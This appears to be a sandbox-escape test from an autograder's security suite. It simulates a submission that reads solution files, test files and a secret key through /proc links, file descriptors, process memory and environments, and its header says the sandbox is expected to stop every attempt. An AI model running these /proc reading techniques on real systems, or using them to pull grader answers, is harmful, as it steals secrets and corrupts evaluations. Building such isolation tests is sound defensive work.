# attack: /proc tricks: the parent's root and cwd links, its open files, its memory (/proc/PID/mem),
# the environment and command line of every visible process
# stopped-by: bwrap
# expect: guess_solution_token=failed guess_suite_token=failed guess_env_secret=failed
# seconds: 40
import os
import re


def _visible_pids():
    return [pid for pid in os.listdir("/proc") if pid.isdigit() and pid != str(os.getpid())]


def _grep_through_links(regex):
    for pid in _visible_pids():
        for link in ("root/@@COURSE@@/solutions/toy_attacks.py", "cwd/solutions/toy_attacks.py",
                     "root/@@COURSE@@/suites/toy_attacks/test_toy_attacks.py"):
            try:
                text = open(f"/proc/{pid}/{link}", errors="ignore").read()
            except OSError:
                continue
            match = re.search(regex, text)
            if match:
                print("ATTACK-SUCCEEDED read through /proc", pid, link)
                return match.group(1)
        try:
            for fd in os.listdir(f"/proc/{pid}/fd"):
                text = open(f"/proc/{pid}/fd/{fd}", errors="ignore").read(1 << 20)
                match = re.search(regex, text)
                if match:
                    print("ATTACK-SUCCEEDED read the parent's open file", pid, fd)
                    return match.group(1)
        except OSError:
            pass
    return None


def _grep_memory(regex):
    for pid in _visible_pids():
        try:
            maps = open(f"/proc/{pid}/maps").read().splitlines()
            memory = open(f"/proc/{pid}/mem", "rb")
        except OSError:
            continue
        for line in maps[:400]:
            start, end = (int(value, 16) for value in line.split()[0].split("-"))
            if "rw" not in line.split()[1] or end - start > 64 << 20:
                continue
            try:
                memory.seek(start)
                match = re.search(regex.encode(), memory.read(end - start))
            except (OSError, ValueError, OverflowError):
                continue
            if match:
                print("ATTACK-SUCCEEDED read another process's memory", pid)
                return match.group(1).decode()
    return None


def guess_solution_token():
    return _grep_through_links(r'SOLUTION_TOKEN = "([^"]+)"') or _grep_memory(r"(solution-canary-[0-9a-f]{16})") or "unknown"


def guess_suite_token():
    return _grep_through_links(r'SUITE_TOKEN = "([^"]+)"') or _grep_memory(r"(suite-canary-[0-9a-f]{16})") or "unknown"


def guess_env_secret():
    for pid in _visible_pids():
        try:
            environ = open(f"/proc/{pid}/environ", "rb").read()
        except OSError:
            continue
        match = re.search(rb"TENSORGRADE_SECRET_KEY=([^\0]+)", environ)
        if match:
            print("ATTACK-SUCCEEDED read the secret from the environment of process", pid)
            return match.group(1).decode()
    return "unknown"


for pid in _visible_pids():
    try:
        print(pid, open(f"/proc/{pid}/cmdline").read().replace("\0", " ")[:200])
    except OSError:
        pass
